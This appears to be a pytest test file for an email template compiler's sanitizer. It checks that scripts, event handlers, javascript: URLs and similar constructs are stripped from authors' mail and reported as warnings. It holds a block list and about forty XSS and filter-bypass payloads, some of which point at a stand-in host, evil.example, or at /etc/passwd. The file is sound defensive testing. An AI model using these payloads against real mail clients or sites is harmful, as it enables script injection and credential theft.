"""What has no place in mail, from authors who may not write raw HTML."""

import pytest

from templates_app.models import Kind
from tests.templates_app.compiling.test_compiling import MJML, compiled, content, problems

BAD = (
    "<script", "onclick", "onload", "onerror", "javascript:", "vbscript:", "data:", "<iframe",
    "<form", "<input", "http-equiv", "<base", "<link", "@import", "expression", "<object", "<svg",
    "<math", "<embed", "<meta http", "behavior", "<frame", "srcdoc",
)  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    '<p onclick="x()">a</p>',
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example' srcdoc='<script>x</script>'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;ava&#9;script:alert(1)">x</a>',
    '<a href="java{{ x }}script:alert(1)">x</a>',
    '<a href="{% if x %}https://{% endif %}javascript:alert(1)">x</a>',
    '<img src="data:image/svg+xml;base64,AAAA">',
    '<table background="vbscript:x"><tr><td>x</td></tr></table>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="file:///etc/passwd">',
    "<style>@import url(https://evil.example/a.css); p { color: red }</style><p>x</p>",
    "<style>p { behavior: url(x.htc) }</style>",
    r'<p style="width: expr\65ssion(alert(1))">x</p>',
    '<p style="background: url(javascript:x)">x</p>',
    "<!--[if mso]><script>x</script><![endif]-->",
    '<!--[if mso]><v:rect href="javascript:x"></v:rect><![endif]-->',
    "<!--[if gte mso 9]><p onclick='x'>y</p><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><script>x</script></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<object data=x></object><embed src=x>",
    "<body onload=x><p>x</p></body>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "<textarea><script>x</script></textarea><xmp><script>y</script></xmp>",
    "<p/onclick=x>y</p>",
    "<noscript><style></noscript></style><img src=x onerror=alert(1)>",
    "<frameset><frame src='https://evil.example'></frameset>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("kind", [Kind.HTML, Kind.MARKDOWN, Kind.MJML])
def test_what_runs_or_calls_home_is_left_out_and_the_author_is_told(
    attack: str, kind: Kind
) -> None:
    source = (
        MJML.format(f"<mj-raw>{attack}</mj-raw>") if kind == Kind.MJML else f"<p>a</p>\n{attack}"
    )

    compilation = compiled(source, kind)

    assert not compilation.problems
    html = compilation.contents[0].html.lower().replace('http-equiv="x-ua', "")
    html = html.replace('http-equiv="content-type"', "")
    assert [word for word in BAD if word in html] == []
    assert compilation.warnings


def test_a_warning_names_what_was_left_out_and_its_line() -> None:
    compilation = compiled('<p>a</p>\n<script src=x></script>\n<p\nonclick="{{ x }}">b</p>')

    assert [str(each) for each in compilation.warnings] == [
        "source, line 2: <script> was left out; mail does not have it",
        'source, line 4: onclick="{{ x }}" of <p> was left out; mail does not have it',
    ]


def test_whoever_may_write_raw_html_keeps_it() -> None:
    source = "<p onclick='x'>a</p><script>b</script>"

    assert content(source, template={"is_raw": True}).html == source


@pytest.mark.parametrize(
    "source",
    [
        '<a title="{% if no %}">{% endif %}" onmouseover="alert(1)">x</a>',
        "{% if no %}<!--{% endif %}<p>x</p>-->",
        "{% if no %}<style>{% endif %}<b>x</b></style>",
        '<p {% if a %}class="x"{% endif %}>y</p>',
        "<{{ tag }}>x",
        "<plaintext><style>",
        "<a href=\"{{ x | default('javascript:alert(1)') }}\">x</a>",
        "<a href=\"{{ 'java' ~ 'script:alert(1)' }}\">x</a>",
        '{% set u = "java script:x" %}<a href="{{ u }}">x</a>',
    ],
)
def test_tags_that_make_something_else_of_the_html_are_refused(source: str) -> None:
    assert problems(source)


def test_a_field_cannot_leave_an_attribute_without_quotes() -> None:
    assert content("<a href={{ url }}>x</a>").html == '<a href="{{ url }}">x</a>'


@pytest.mark.parametrize(
    "source",
    [
        '<a href="{% if a %}https://a.example{% else %}https://b.example{% endif %}">x</a>',
        '<a href="{{ url }}" target="_blank" rel="noopener">x</a>',
        '<table role="presentation" bgcolor="#fff"><tr><td valign="top">x</td></tr></table>',
        "<style>@media (prefers-color-scheme: dark) { p { color: #fff } }</style><p>x</p>",
        '<!--[if mso]><v:rect href="https://a.example" style="a:b"><v:fill src="https://b.example"/></v:rect><![endif]-->',
        "<!--[if !mso]><!--><p>x</p><!--<![endif]-->",
        '<img src="cid:logo" alt="a &amp; b" width="10" style="display:block">',
        '<center><font color="red" face="Arial">x</font></center>',
        "<p>1 < 2 & 3</p>",
    ],
)
def test_what_mail_is_made_of_stays_as_it_was_written(source: str) -> None:
    compilation = compiled(source)

    assert compilation.contents[0].html == source
    assert not compilation.warnings
